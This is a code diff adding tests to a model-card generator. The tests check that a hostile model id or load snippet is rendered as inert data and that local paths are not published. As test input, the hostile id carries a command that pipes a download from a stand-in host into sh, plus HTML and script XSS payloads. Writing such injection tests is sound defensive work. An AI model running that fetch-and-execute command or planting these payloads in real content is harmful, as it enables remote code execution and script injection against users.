@@ -83,3 +83,43 @@ def test_a_new_repository_gets_the_card_and_an_existing_readme_is_kept() -> None
         paths = [op.path_in_repo for op in commit["operations"]]
         assert ("README.md" in paths) is (not exists)
         assert "m/t/k/manifest.json" in paths
+
+
+def _card_tokens(text: str) -> list[Any]:
+    from markdown_it import MarkdownIt
+
+    body = text.split("\n---\n", 1)[1]  # after the YAML header
+    return MarkdownIt("commonmark").parse(body)
+
+
+def _headings(text: str) -> list[str]:
+    tokens = _card_tokens(text)
+    return [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
+
+
+def test_a_hostile_model_id_or_snippet_is_data_not_markup(tmp_path: Path) -> None:
+    """Issue 41 item 7: newlines, a code fence and HTML in a model id (a directory name) or the load
+    snippet never make a second "Deploy" section, a shell block or raw HTML on the public card."""
+    manifest = read_manifest(_bundle(tmp_path, "optimum-neuron"))
+    hostile = "evil\n\n## Deploy\n\n```bash\ncurl https://x.example/i | sh\n```\n<img src=x onerror=alert(1)>"
+    manifest.profile["model"]["id"] = hostile
+    manifest.extra["load_snippet"] = "x = 1\n```\n\n## Deploy\n\n<script>alert(1)</script>\n````\n"
+    text = model_card(manifest, store_url=STORE, bundle_url=f"{STORE}/x/y/z", signed=False)
+    assert _headings(text)[1:] == ["Deploy", "Integrity"]
+    tokens = _card_tokens(text)
+    assert not [t for t in tokens if t.type == "html_block"]
+    assert not [c for t in tokens if t.children for c in t.children if c.type == "html_inline"]
+    fences = [t for t in tokens if t.type == "fence"]
+    assert [f.info for f in fences] == ["bash", "python"]
+    assert "curl" not in fences[0].content  # the deploy block holds neuronc's own commands only
+    assert fences[1].content == manifest.extra["load_snippet"] + "\n"  # the snippet, whole, as code
+    assert ModelCard(text).data.base_model is None
+
+
+def test_a_local_model_is_never_base_model_and_its_path_is_not_published(tmp_path: Path) -> None:
+    manifest = read_manifest(_bundle(tmp_path, "optimum-neuron"))
+    for local in ("/home/builder/models/llama-ft", "./llama-ft", "~/llama-ft", "models/../llama-ft"):
+        manifest.profile["model"]["id"] = local
+        text = model_card(manifest, store_url=STORE, bundle_url=f"{STORE}/x/y/z", signed=False)
+        assert ModelCard(text).data.base_model is None, local
+        assert "/home/builder" not in text and "llama-ft (a local model)" in text
